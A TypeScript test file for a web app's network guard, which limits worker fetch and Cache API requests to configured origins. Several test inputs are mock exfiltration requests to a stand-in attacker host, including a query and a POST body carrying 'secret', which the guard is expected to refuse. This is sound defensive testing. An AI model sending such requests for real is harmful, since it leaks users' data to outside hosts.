/**
 * The workers' network policy in Node: which origins the settings allow, which URLs pass, and the
 * guard over a fake worker scope (its `fetch` and the Cache API's `add`/`addAll`): a refused
 * request never reaches the network, and a changed setting applies at the next request.
 */
import { describe, expect, it } from 'vitest';
import {
  allowedOrigins,
  DEFAULT_MODEL_ORIGINS,
  type NetworkSettings,
} from '../../../src/adapters/network/allowed-origins.ts';
import { installNetworkGuard } from '../../../src/adapters/network/network-guard.ts';
import { NetworkPolicy } from '../../../src/adapters/network/network-policy.ts';

const APP = 'https://archivist.example';
const SERVER = 'http://127.0.0.1:11434/v1';
const OTHER_SERVER = 'http://127.0.0.1:8080/v1';
const DEFAULTS = ['https://huggingface.co', 'https://raw.githubusercontent.com'];

const server = (baseUrl: string): NetworkSettings => ({
  answerEngine: { kind: 'openai', baseUrl, model: 'qwen' },
});

/** A worker scope whose `fetch` records what reached "the network", with a Cache API. */
function fakeScope() {
  const sent: string[] = [];
  const cached: string[] = [];
  class FakeCache {
    async add(request: RequestInfo | URL): Promise<void> {
      cached.push(String(request instanceof Request ? request.url : request));
    }
    async addAll(requests: Iterable<RequestInfo>): Promise<void> {
      for (const request of requests) await this.add(request);
    }
  }
  const scope = {
    location: { href: `${APP}/assets/library.worker.js` },
    fetch: (async (input: RequestInfo | URL) => {
      sent.push(input instanceof Request ? input.url : String(input));
      return new Response('ok');
    }) as typeof fetch,
    Cache: FakeCache as unknown as { prototype: Pick<Cache, 'add' | 'addAll'> },
  };
  return { scope, sent, cached, cache: new FakeCache() as unknown as Cache };
}

async function refusal(promise: Promise<unknown>): Promise<Error | undefined> {
  return promise.then(
    () => undefined,
    (error: Error) => error,
  );
}

describe('allowed origins', () => {
  it('are the app and the catalogues’ hosts when nothing is set', () => {
    expect(DEFAULT_MODEL_ORIGINS).toEqual(DEFAULTS);
    expect([...allowedOrigins({}, APP)]).toEqual([APP, ...DEFAULTS]);
    expect([...allowedOrigins({ answerEngine: { kind: 'extractive' } }, APP)]).toEqual([
      APP,
      ...DEFAULTS,
    ]);
  });

  it('add the server, the custom model URL and the mirror, as origins', () => {
    expect(allowedOrigins(server(SERVER), APP)).toContain('http://127.0.0.1:11434');
    const custom = allowedOrigins(
      {
        answerEngine: {
          kind: 'webllm',
          model: 'SmolLM2-360M-Instruct-q4f32_1-MLC',
          cacheBackend: 'cache',
          customUrl: 'https://models.lan:8443/llm/SmolLM2',
        },
        modelHost: 'https://mirror.lan/hf/',
      },
      APP,
    );
    expect([...custom]).toEqual([
      APP,
      ...DEFAULTS,
      'https://models.lan:8443',
      'https://mirror.lan',
    ]);
  });

  it('ignore an empty mirror and addresses that are not http(s)', () => {
    expect(allowedOrigins({ modelHost: '' }, APP).size).toBe(3);
    expect(allowedOrigins({ modelHost: 'ftp://mirror.lan/' }, APP).size).toBe(3);
    expect(allowedOrigins({ modelHost: 'not a url' }, APP).size).toBe(3);
  });
});

describe('the network policy', () => {
  it('lets the app’s own files, blob: and data: URLs and the default hosts through', async () => {
    const policy = new NetworkPolicy(`${APP}/assets/library.worker.js`);
    for (const url of [
      '/models/archivist/glove-100d/config.json',
      'ort-wasm-simd-threaded.asyncify.wasm',
      `${APP}/index.html`,
      'blob:https://archivist.example/4b1d',
      'data:application/octet-stream;base64,AAAA',
      'https://huggingface.co/mlc-ai/Qwen3-0.6B-q4f16_1-MLC/resolve/main/mlc-chat-config.json',
      'https://raw.githubusercontent.com/mlc-ai/binary-mlc-llm-libs/main/x.wasm',
    ]) {
      await expect(policy.check(url), url).resolves.toBeUndefined();
    }
  });

  it('refuses any other host with HostNotAllowedError, naming it and how to allow it', async () => {
    const policy = new NetworkPolicy(`${APP}/w.js`);
    policy.readSettingsWith(async () => server(SERVER));
    const error = await refusal(policy.check('https://attacker.example/x?q=secret'));
    expect(error?.name).toBe('HostNotAllowedError');
    expect(error?.message).toMatch(/did not contact attacker\.example/);
    expect(error?.message).toMatch(/Base URL .* custom model URL .* Model host/);
    // An origin is scheme, host and port: none of these is the configured server.
    for (const url of [
      'http://127.0.0.1:8080/v1/models',
      'https://127.0.0.1:11434/v1/models',
      'http://localhost:11434/v1/models',
      'http://huggingface.co/x',
      'https://cdn-lfs.hf.co/repos/x',
    ]) {
      expect((await refusal(policy.check(url)))?.name, url).toBe('HostNotAllowedError');
    }
    await expect(policy.check('http://127.0.0.1:11434/v1/chat/completions')).resolves.toBe(
      undefined,
    );
  });

  it('allows origins the user typed for one action, and only for it', async () => {
    const policy = new NetworkPolicy(`${APP}/w.js`);
    const url = 'http://127.0.0.1:8080/v1/models';
    await expect(policy.check(url, ['http://127.0.0.1:8080'])).resolves.toBeUndefined();
    expect((await refusal(policy.check(url)))?.name).toBe('HostNotAllowedError');
  });

  it('reads no setting for the app’s own files', async () => {
    let reads = 0;
    const policy = new NetworkPolicy(`${APP}/w.js`);
    policy.readSettingsWith(async () => {
      reads += 1;
      return {};
    });
    await policy.check('/models/x.onnx');
    expect(reads).toBe(0);
    await policy.check('https://huggingface.co/x');
    expect(reads).toBe(1);
  });
});

describe('the network guard in a worker scope', () => {
  it('sends allowed requests and refuses others before they are sent', async () => {
    const { scope, sent } = fakeScope();
    const guard = installNetworkGuard(scope);
    guard.policy.readSettingsWith(async () => server(SERVER));
    await scope.fetch('http://127.0.0.1:11434/v1/models');
    await scope.fetch(new URL('https://huggingface.co/a'));
    await scope.fetch(new Request('https://raw.githubusercontent.com/b'));
    for (const input of [
      'https://attacker.example/x',
      new URL('http://127.0.0.1:8080/v1/models'),
      new Request('https://attacker.example/y', { method: 'POST', body: 'secret' }),
    ]) {
      const error = await refusal(scope.fetch(input));
      expect(error?.name).toBe('HostNotAllowedError');
    }
    expect(sent).toEqual([
      'http://127.0.0.1:11434/v1/models',
      'https://huggingface.co/a',
      'https://raw.githubusercontent.com/b',
    ]);
  });

  it('checks what the Cache API fetches by itself (web-llm fills its cache with add)', async () => {
    const { scope, cached, cache } = fakeScope();
    installNetworkGuard(scope);
    await cache.add('https://huggingface.co/mlc-ai/m/resolve/main/params_shard_0.bin');
    expect((await refusal(cache.add('https://attacker.example/shard.bin')))?.name).toBe(
      'HostNotAllowedError',
    );
    const error = await refusal(
      cache.addAll(['https://huggingface.co/ok.bin', 'https://attacker.example/no.bin']),
    );
    expect(error?.name).toBe('HostNotAllowedError');
    expect(cached).toEqual(['https://huggingface.co/mlc-ai/m/resolve/main/params_shard_0.bin']);
  });

  it('applies a changed setting at the next request, without a reload', async () => {
    const { scope, sent } = fakeScope();
    let settings: NetworkSettings = server(SERVER);
    installNetworkGuard(scope).policy.readSettingsWith(async () => settings);
    const other = 'http://127.0.0.1:8080/v1/models';
    expect((await refusal(scope.fetch(other)))?.name).toBe('HostNotAllowedError');
    settings = server(OTHER_SERVER);
    await scope.fetch(other);
    expect((await refusal(scope.fetch('http://127.0.0.1:11434/v1/models')))?.name).toBe(
      'HostNotAllowedError',
    );
    settings = { answerEngine: { kind: 'extractive' } };
    expect((await refusal(scope.fetch(other)))?.name).toBe('HostNotAllowedError');
    expect(sent).toEqual([other]);
  });

  it('lets a fetch for a typed host reach it while the worker’s own fetch still cannot', async () => {
    const { scope, sent } = fakeScope();
    const guard = installNetworkGuard(scope);
    const typed = guard.fetchAlsoTo([OTHER_SERVER, undefined]);
    await typed('http://127.0.0.1:8080/v1/models');
    expect((await refusal(typed('https://attacker.example/')))?.name).toBe('HostNotAllowedError');
    expect((await refusal(scope.fetch('http://127.0.0.1:8080/v1/models')))?.name).toBe(
      'HostNotAllowedError',
    );
    expect(sent).toEqual(['http://127.0.0.1:8080/v1/models']);
  });
});
